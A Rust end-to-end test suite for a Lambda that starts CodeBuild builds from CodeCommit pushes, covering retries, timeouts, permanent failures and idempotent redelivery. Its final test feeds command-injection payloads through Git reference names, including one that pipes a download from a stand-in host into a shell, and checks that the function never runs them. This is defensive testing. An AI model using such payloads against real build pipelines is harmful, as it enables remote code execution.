//! End-to-end tests of the README's "Failure modes": the release binary under a local
//! Lambda Runtime API, calling moto's CodeBuild through the recording proxy, which
//! throttles, fails, resets, delays and denies chosen StartBuild requests.
//! Run with `make test`, which builds the binaries and installs moto.

#![cfg(feature = "end-to-end")]

use std::collections::BTreeSet;
use std::time::Duration;

use serde_json::{json, Value};
use testkit::proxy::Fault;
use testkit::{overrides, runtime_api, sample_event, Harness};
use tokio::time::Instant;

const MASTER_COMMIT: &str = "5e493c6f3067653f3d04eca608b4901eb2270780";
const DEVELOP_COMMIT: &str = "3b8d1f6a9c2e5b7d0f3a6c9e2b5d8f1a4c7e0b3d";
const RELEASE_COMMIT: &str = "c0ffee4b1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f60";
/// The SDK's timeout of one attempt (`src/main.rs`).
const ATTEMPT_TIMEOUT: Duration = Duration::from_secs(5);
/// The SDK's timeout of one call, retries included (`src/main.rs`).
const OPERATION_TIMEOUT: Duration = Duration::from_secs(20);

/// The StartBuild requests the proxy saw, in arrival order: (body, answered by a fault).
fn start_builds(harness: &Harness) -> Vec<(Value, bool)> {
    harness
        .proxy
        .requests()
        .into_iter()
        .filter(|request| request.operation() == "StartBuild")
        .map(|request| (request.body, request.faulted))
        .collect()
}

/// Checks that every StartBuild request was the same, token included, that the last one
/// alone reached moto, and that moto holds exactly one build, the one the answer names.
async fn assert_started_once(harness: &Harness, response: &Value, attempts: usize) {
    let requests = start_builds(harness);
    let faulted: Vec<bool> = requests.iter().map(|(_, faulted)| *faulted).collect();
    let mut expected = vec![true; attempts - 1];
    expected.push(false);
    assert_eq!(
        faulted, expected,
        "{attempts} attempts, only the last one reaching CodeBuild"
    );
    let first = &requests[0].0;
    for (body, _) in &requests {
        assert_eq!(
            body, first,
            "every attempt sends the same parameters, idempotency token included"
        );
    }
    assert_eq!(first["sourceVersion"], MASTER_COMMIT);
    let token = first["idempotencyToken"].as_str().expect("a token");
    assert_eq!(token.len(), 64, "{token}");

    let builds = harness.builds().await;
    assert_eq!(builds.len(), 1, "one build in CodeBuild");
    assert_eq!(builds[0].source_version(), Some(MASTER_COMMIT));
    assert_eq!(
        response["started"],
        json!([{"project": "demo-project", "buildId": builds[0].id().expect("a build id"),
                "repository": "my-app", "ref": "refs/heads/master", "commit": MASTER_COMMIT}])
    );
}

#[tokio::test]
async fn throttling_twice_in_a_row_is_retried_and_the_build_starts_once() {
    let harness = Harness::builder().start().await;
    harness
        .proxy
        .inject(Fault::throttling("StartBuild").times(2));
    let response = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect("the third attempt starts the build");
    assert_started_once(&harness, &response, 3).await;
}

#[tokio::test]
async fn answers_500_and_503_are_retried_and_the_build_starts_once() {
    let harness = Harness::builder().start().await;
    harness.proxy.inject(Fault::internal_failure("StartBuild"));
    harness
        .proxy
        .inject(Fault::service_unavailable("StartBuild"));
    let response = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect("the third attempt starts the build");
    assert_started_once(&harness, &response, 3).await;
}

#[tokio::test]
async fn a_reset_connection_is_retried_and_the_build_starts_once() {
    let harness = Harness::builder().start().await;
    harness.proxy.inject(Fault::reset("StartBuild"));
    let response = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect("the second attempt starts the build");
    assert_started_once(&harness, &response, 2).await;
}

#[tokio::test]
async fn an_attempt_slower_than_the_attempt_timeout_is_abandoned_and_retried() {
    let harness = Harness::builder().start().await;
    // The first StartBuild is held for 6 s, past the SDK's 5 s attempt timeout, and then
    // its connection is reset: it never reaches moto, so moto holds only the retry's build.
    // (Real CodeBuild might have started the build from the slow request; the retry,
    // carrying the same token, would then get that build back.)
    harness
        .proxy
        .inject(Fault::delay("StartBuild", Duration::from_secs(6)).then_reset());
    let started = Instant::now();
    let response = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect("the second attempt starts the build");
    let elapsed = started.elapsed();
    assert!(
        elapsed >= ATTEMPT_TIMEOUT,
        "the first attempt was given its 5 s before the retry: {elapsed:?}"
    );
    assert_started_once(&harness, &response, 2).await;
}

#[tokio::test]
async fn a_codebuild_slower_than_every_attempt_fails_the_invocation_at_the_operation_timeout() {
    let harness = Harness::builder().start().await;
    harness.proxy.inject(
        Fault::delay("StartBuild", Duration::from_secs(30))
            .then_reset()
            .times(100),
    );
    let started = Instant::now();
    let error = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect_err("no build could start");
    let elapsed = started.elapsed();
    // Attempts of 5 s and backoffs between them, until the SDK's 20 s for the whole call.
    assert!(
        elapsed >= 3 * ATTEMPT_TIMEOUT && elapsed < OPERATION_TIMEOUT + Duration::from_secs(1),
        "{elapsed:?}"
    );
    assert_eq!(error.error_type, "StartBuildFailed");
    assert!(
        error.error_message.starts_with(&format!(
            "StartBuild failed for 1 reference(s): my-app refs/heads/master at {MASTER_COMMIT} (Timeout)"
        )),
        "{}",
        error.error_message
    );
    let attempts = start_builds(&harness).len();
    assert!(
        (3..=4).contains(&attempts),
        "as many 5 s attempts as fit in 20 s: {attempts}"
    );
    assert!(harness.builds().await.is_empty());
}

/// A push of `count` branches, `branch-0` to `branch-{count - 1}`, each at its own commit.
fn many_branch_push(count: usize) -> Value {
    let mut event = sample_event("push-master.json");
    event["Records"][0]["codecommit"]["references"] = (0..count)
        .map(|n| json!({"commit": format!("{:040x}", 0xb0 + n), "ref": format!("refs/heads/branch-{n}")}))
        .collect();
    event
}

/// The commits of a push, sorted.
fn pushed_commits(event: &Value) -> Vec<String> {
    let mut commits: Vec<String> = event["Records"][0]["codecommit"]["references"]
        .as_array()
        .expect("references")
        .iter()
        .map(|reference| reference["commit"].as_str().expect("a commit").to_owned())
        .collect();
    commits.sort();
    commits
}

#[tokio::test]
async fn a_throttling_storm_of_several_seconds_is_ridden_out_inside_the_invocation() {
    let harness = Harness::builder().env("BRANCHES", "**").start().await;
    let event = many_branch_push(6);
    let storm = Duration::from_secs(5);
    harness
        .proxy
        .inject(Fault::throttling("StartBuild").for_period(storm));
    let started = Instant::now();
    let response = harness
        .invoke(&event)
        .await
        .expect("every build starts once the storm is over");
    let elapsed = started.elapsed();
    assert!(
        elapsed >= storm && elapsed < runtime_api::DEADLINE,
        "started after the storm, inside the invocation: {elapsed:?}"
    );
    assert_eq!(
        response["started"].as_array().map(Vec::len),
        Some(6),
        "{response}"
    );
    // Throttled requests never reach moto: one build there per reference.
    assert_eq!(harness.built_commits().await, pushed_commits(&event));
    let requests = start_builds(&harness);
    assert!(
        requests.iter().filter(|(_, faulted)| *faulted).count() >= 6,
        "each reference was throttled at least once"
    );
    for (body, _) in &requests {
        let first = requests
            .iter()
            .find(|(other, _)| other["sourceVersion"] == body["sourceVersion"])
            .map(|(first, _)| first);
        assert_eq!(
            Some(body),
            first,
            "every retry sends the same request, token included"
        );
    }
}

#[tokio::test]
async fn throttling_until_the_deadline_fails_in_time_and_a_redelivery_starts_each_build_once() {
    let harness = Harness::builder().env("BRANCHES", "**").start().await;
    let event = many_branch_push(3);
    harness
        .proxy
        .inject(Fault::throttling("StartBuild").for_period(Duration::from_secs(600)));
    let deadline = Duration::from_secs(10);
    let started = Instant::now();
    let error = harness
        .invoke_with_deadline(&event, deadline)
        .await
        .expect_err("throttled to the end");
    let elapsed = started.elapsed();
    assert!(
        elapsed > Duration::from_secs(5) && elapsed < deadline,
        "retried while there was time, answered before the deadline: {elapsed:?}"
    );
    assert_eq!(error.error_type, "StartBuildFailed");
    assert!(
        error
            .error_message
            .starts_with("StartBuild failed for 3 reference(s): "),
        "{}",
        error.error_message
    );
    for reference in event["Records"][0]["codecommit"]["references"]
        .as_array()
        .expect("references")
    {
        let named = format!(
            "my-app {} at {} (",
            reference["ref"].as_str().expect("a ref"),
            reference["commit"].as_str().expect("a commit")
        );
        assert!(
            error
                .error_message
                .contains(&format!("{named}InvocationDeadline)"))
                || error
                    .error_message
                    .contains(&format!("{named}ThrottlingException)")),
            "names {named}...) and why: {}",
            error.error_message
        );
    }
    assert!(harness.builds().await.is_empty());
    let mut first_of_each = by_token(&start_builds(&harness));
    first_of_each.dedup();

    // Lambda's retry, once CodeBuild no longer throttles.
    harness.proxy.clear_faults();
    let before = start_builds(&harness).len();
    let response = harness.invoke(&event).await.expect("every build starts");
    assert_eq!(
        response["started"].as_array().map(Vec::len),
        Some(3),
        "{response}"
    );
    assert_eq!(harness.built_commits().await, pushed_commits(&event));
    let redelivery = by_token(&start_builds(&harness)[before..]);
    assert_eq!(redelivery.len(), 3, "one StartBuild a reference");
    assert_eq!(
        redelivery, first_of_each,
        "the same requests, tokens included"
    );
}

#[tokio::test]
async fn a_hung_codebuild_never_keeps_the_function_past_its_deadline() {
    let harness = Harness::builder().start().await;
    harness.proxy.inject(
        Fault::delay("StartBuild", Duration::from_secs(30))
            .then_reset()
            .times(100),
    );
    let deadline = Duration::from_secs(8);
    let started = Instant::now();
    let error = harness
        .invoke_with_deadline(&sample_event("push-master.json"), deadline)
        .await
        .expect_err("no build could start");
    let elapsed = started.elapsed();
    assert!(
        elapsed < deadline,
        "the function answered {elapsed:?} after an invocation with {deadline:?} to run\n{}",
        harness.diagnostics()
    );
    assert!(
        elapsed > ATTEMPT_TIMEOUT,
        "the function used its time to retry, not give up at once: {elapsed:?}"
    );
    assert_eq!(error.error_type, "StartBuildFailed");
    let message = &error.error_message;
    assert!(
        message.contains(&format!("my-app refs/heads/master at {MASTER_COMMIT} (")),
        "the message names the reference: {message}"
    );
    assert!(
        message.contains("(InvocationDeadline)") || message.contains("(Timeout)"),
        "the message names a timeout: {message}"
    );
    let attempts = start_builds(&harness);
    assert_eq!(
        attempts.len(),
        2,
        "the first attempt timed out after 5 s, the retry was cut short by the deadline"
    );
    assert!(harness.builds().await.is_empty());
}

/// One permanent StartBuild failure: the AWS error code and what the `action` of the
/// function's ERROR line must mention.
struct Permanent {
    code: &'static str,
    action_mentions: &'static str,
}

/// Invokes push-master.json, expecting exactly one more StartBuild request and a
/// `StartBuildFailed` naming master and `expected.code`, with an ERROR line saying what to do.
async fn assert_fails_without_retry(harness: &Harness, expected: &Permanent) {
    let before = start_builds(harness).len();
    let error = harness
        .invoke(&sample_event("push-master.json"))
        .await
        .expect_err("the build cannot start");
    let code = expected.code;
    assert_eq!(
        start_builds(harness).len(),
        before + 1,
        "{code} is not retried"
    );
    assert_eq!(error.error_type, "StartBuildFailed", "{code}");
    assert!(
        error.error_message.starts_with(&format!(
            "StartBuild failed for 1 reference(s): my-app refs/heads/master at {MASTER_COMMIT} ({code})"
        )),
        "{}",
        error.error_message
    );
    let logged = harness
        .function
        .wait_for_log_record(
            |line| {
                line["fields"]["message"] == "StartBuild failed" && line["fields"]["code"] == code
            },
            Duration::from_secs(2),
        )
        .await
        .unwrap_or_else(|| panic!("an ERROR line for {code}\n{}", harness.diagnostics()));
    assert_eq!(logged["level"], "ERROR", "{logged}");
    assert_eq!(
        logged["fields"]["reference"], "refs/heads/master",
        "{logged}"
    );
    assert_eq!(logged["fields"]["commit"], MASTER_COMMIT, "{logged}");
    let action = logged["fields"]["action"].as_str().unwrap_or_default();
    assert!(
        action.contains(expected.action_mentions),
        "the action for {code} says what to do ({}): {logged}",
        expected.action_mentions
    );
}

#[tokio::test]
async fn permanent_failures_are_not_retried_and_say_what_to_do() {
    let harness = Harness::builder().start().await;
    harness.proxy.inject(Fault::error(
        "StartBuild",
        400,
        "AccountLimitExceededException",
        "Cannot have more than 60 builds in queue for the account",
    ));
    assert_fails_without_retry(
        &harness,
        &Permanent {
            code: "AccountLimitExceededException",
            action_mentions: "quota",
        },
    )
    .await;

    harness.proxy.inject(Fault::error(
        "StartBuild",
        400,
        "AccessDeniedException",
        "User: arn:aws:sts::123456789012:assumed-role/trigger/codecommit-build-trigger is not \
         authorized to perform: codebuild:StartBuild on resource: \
         arn:aws:codebuild:us-east-1:123456789012:project/demo-project",
    ));
    assert_fails_without_retry(
        &harness,
        &Permanent {
            code: "AccessDeniedException",
            action_mentions: "codebuild:StartBuild",
        },
    )
    .await;
    assert!(harness.builds().await.is_empty());
}

#[tokio::test]
async fn a_deleted_project_is_not_retried_and_says_what_to_do() {
    let harness = Harness::builder().start().await;
    harness
        .codebuild
        .delete_project()
        .name(&harness.project)
        .send()
        .await
        .expect("deleting the project in moto");
    // moto itself answers ResourceNotFoundException: no fault is injected.
    assert_fails_without_retry(
        &harness,
        &Permanent {
            code: "ResourceNotFoundException",
            action_mentions: "CODEBUILD_PROJECT",
        },
    )
    .await;
}

/// A trigger event of one push of three branches.
fn three_branch_push() -> Value {
    let mut event = sample_event("push-master.json");
    event["Records"][0]["codecommit"]["references"] = json!([
        {"commit": MASTER_COMMIT, "ref": "refs/heads/master"},
        {"commit": DEVELOP_COMMIT, "ref": "refs/heads/develop"},
        {"commit": RELEASE_COMMIT, "ref": "refs/heads/release/1.4"},
    ]);
    event
}

/// StartBuild bodies ordered by token, so that deliveries compare whatever order their
/// concurrent requests arrived in.
fn by_token(requests: &[(Value, bool)]) -> Vec<Value> {
    let mut bodies: Vec<Value> = requests.iter().map(|(body, _)| body.clone()).collect();
    bodies.sort_by_key(|body| body["idempotencyToken"].as_str().map(str::to_owned));
    bodies
}

#[tokio::test]
async fn a_partly_failed_push_redelivered_sends_identical_start_builds() {
    let harness = Harness::builder().env("BRANCHES", "**").start().await;
    // The account's build quota is reached by the time develop's build is asked for.
    harness.proxy.inject(
        Fault::error(
            "StartBuild",
            400,
            "AccountLimitExceededException",
            "Cannot have more than 2 builds in queue for the account",
        )
        .when_body_contains("refs/heads/develop")
        .times(100),
    );
    let event = three_branch_push();
    let error = harness
        .invoke(&event)
        .await
        .expect_err("develop's build could not start");
    assert_eq!(error.error_type, "StartBuildFailed");
    assert!(
        error.error_message.starts_with(&format!(
            "StartBuild failed for 1 reference(s): my-app refs/heads/develop at {DEVELOP_COMMIT} \
             (AccountLimitExceededException)"
        )),
        "{}",
        error.error_message
    );
    assert_eq!(
        harness.built_commits().await,
        [MASTER_COMMIT, RELEASE_COMMIT],
        "the other two started"
    );

    // Lambda's retry, while the quota is still reached, then a later one once it is not.
    harness
        .invoke(&event)
        .await
        .expect_err("develop still cannot start");
    harness.proxy.clear_faults();
    let response = harness.invoke(&event).await.expect("every build starts");
    assert_eq!(
        response["started"]
            .as_array()
            .expect("started")
            .iter()
            .map(|started| started["ref"].as_str().expect("a ref"))
            .collect::<Vec<_>>(),
        [
            "refs/heads/master",
            "refs/heads/develop",
            "refs/heads/release/1.4"
        ]
    );

    let requests = start_builds(&harness);
    assert_eq!(requests.len(), 9, "three StartBuilds in each delivery");
    let first = by_token(&requests[..3]);
    assert_eq!(
        first
            .iter()
            .filter_map(|body| body["idempotencyToken"].as_str())
            .collect::<BTreeSet<_>>()
            .len(),
        3,
        "each reference has its own token"
    );
    // Identical parameters, tokens included: within CodeBuild's 5 minutes, real CodeBuild
    // answers the redelivered master and release/1.4 requests with the builds their first
    // delivery started, so each reference builds once. moto ignores tokens and starts them
    // again, so its build count says nothing here.
    assert_eq!(by_token(&requests[3..6]), first, "the second delivery");
    assert_eq!(by_token(&requests[6..]), first, "the third delivery");
    assert!(
        harness
            .builds()
            .await
            .iter()
            .any(|build| build.source_version() == Some(DEVELOP_COMMIT)),
        "develop's build started at last"
    );
}

/// The EventBridge event of the push `trigger_event` describes (its one reference).
fn as_eventbridge(trigger_event: &Value, event: &str) -> Value {
    let record = &trigger_event["Records"][0];
    let reference = &record["codecommit"]["references"][0];
    let full = reference["ref"].as_str().expect("a ref");
    let (kind, name) = match full.strip_prefix("refs/tags/") {
        Some(tag) => ("tag", tag),
        None => (
            "branch",
            full.strip_prefix("refs/heads/").expect("a branch"),
        ),
    };
    let mut eventbridge = sample_event("eventbridge-push-master.json");
    let detail = &mut eventbridge["detail"];
    detail["event"] = json!(event);
    detail["referenceType"] = json!(kind);
    detail["referenceName"] = json!(name);
    detail["referenceFullName"] = json!(full);
    detail["commitId"] = reference["commit"].clone();
    detail["callerUserArn"] = record["userIdentityARN"].clone();
    if event == "referenceCreated" {
        detail
            .as_object_mut()
            .expect("detail is an object")
            .remove("oldCommitId");
    }
    eventbridge
}

// end_to_end.rs checks a branch update delivered by a trigger and by a rule; these are the
// other two kinds of push that build: a new tag and a new branch.
#[tokio::test]
async fn a_new_tag_or_branch_delivered_by_a_trigger_and_a_rule_sends_identical_start_builds() {
    let harness = Harness::builder()
        .env("BRANCHES", "**")
        .env("TAGS", "v*")
        .start()
        .await;
    for name in ["push-tag.json", "create-branch.json"] {
        let trigger = sample_event(name);
        let rule = as_eventbridge(&trigger, "referenceCreated");
        let before = start_builds(&harness).len();
        let from_trigger = harness.invoke(&trigger).await.expect("the trigger's event");
        let from_rule = harness.invoke(&rule).await.expect("the rule's event");
        let requests = start_builds(&harness);
        assert_eq!(requests.len(), before + 2, "{name}");
        assert_eq!(
            requests[before].0,
            requests[before + 1].0,
            "{name}: a trigger and a rule on one push send identical parameters"
        );
        for response in [&from_trigger, &from_rule] {
            assert_eq!(
                response["started"][0]["ref"],
                trigger["Records"][0]["codecommit"]["references"][0]["ref"],
                "{name}: {response}"
            );
        }
    }
}

#[tokio::test]
async fn hostile_reference_names_reach_the_build_only_as_variable_values() {
    let marker =
        std::env::temp_dir().join(format!("codecommit-build-trigger-{}", std::process::id()));
    let marker = marker.to_str().expect("a UTF-8 temporary directory");
    // Each is a valid Git reference name (`git check-ref-format`), full of shell syntax.
    let hostile = [
        format!("refs/heads/$(touch${{IFS}}{marker}-dollar)"),
        format!("refs/heads/`touch${{IFS}}{marker}-backquote`"),
        "refs/heads/x;curl${IFS}evil.example|sh&&echo'\"<y>\"'#!%{}".to_owned(),
        format!("refs/tags/v1$(touch${{IFS}}{marker}-tag)"),
    ];
    let commits = [MASTER_COMMIT, DEVELOP_COMMIT, RELEASE_COMMIT, MASTER_COMMIT];
    let mut event = sample_event("push-master.json");
    event["Records"][0]["codecommit"]["references"] = hostile
        .iter()
        .zip(commits)
        .map(|(name, commit)| json!({"commit": commit, "ref": name}))
        .collect();

    let harness = Harness::builder()
        .env("BRANCHES", "**")
        .env("TAGS", "**")
        .start()
        .await;
    let response = harness.invoke(&event).await.expect("every name builds");
    let started: Vec<&str> = response["started"]
        .as_array()
        .expect("started")
        .iter()
        .map(|started| started["ref"].as_str().expect("a ref"))
        .collect();
    assert_eq!(
        started,
        hostile.iter().map(String::as_str).collect::<Vec<_>>()
    );

    let requests = start_builds(&harness);
    assert_eq!(requests.len(), hostile.len());
    for (request, _) in &requests {
        let keys: BTreeSet<&str> = request
            .as_object()
            .expect("a JSON object")
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(
            keys,
            BTreeSet::from([
                "projectName",
                "sourceTypeOverride",
                "sourceLocationOverride",
                "sourceVersion",
                "idempotencyToken",
                "environmentVariablesOverride"
            ]),
            "no buildspec or other override: {request}"
        );
        assert_eq!(request["projectName"], "demo-project");
        assert_eq!(request["sourceTypeOverride"], "CODECOMMIT");
        assert_eq!(
            request["sourceLocationOverride"],
            "https://git-codecommit.us-east-1.amazonaws.com/v1/repos/my-app",
            "the source is the event's repository, whatever the name pushed"
        );
        let variables = overrides(request);
        let reference = variables
            .iter()
            .find(|(name, _)| name == "CODECOMMIT_REF")
            .map(|(_, value)| value.clone())
            .expect("CODECOMMIT_REF");
        let index = hostile
            .iter()
            .position(|name| *name == reference)
            .unwrap_or_else(|| panic!("{reference:?} is one of the pushed names, unaltered"));
        assert_eq!(request["sourceVersion"], commits[index], "{request}");
        let (variable, short) = match reference.strip_prefix("refs/tags/") {
            Some(tag) => ("CODECOMMIT_TAG", tag),
            None => (
                "CODECOMMIT_BRANCH",
                reference.strip_prefix("refs/heads/").expect("a branch"),
            ),
        };
        assert!(
            variables.contains(&(variable.to_owned(), short.to_owned())),
            "{variables:?}"
        );
        let mut rest = request.clone();
        rest.as_object_mut()
            .expect("a JSON object")
            .remove("environmentVariablesOverride");
        assert!(
            !rest.to_string().contains(short),
            "the name is nowhere but in the variables: {request}"
        );
    }
    for suffix in ["dollar", "backquote", "tag"] {
        let path = format!("{marker}-{suffix}");
        assert!(
            !std::path::Path::new(&path).exists(),
            "{path} exists: a name was run by a shell"
        );
    }
}
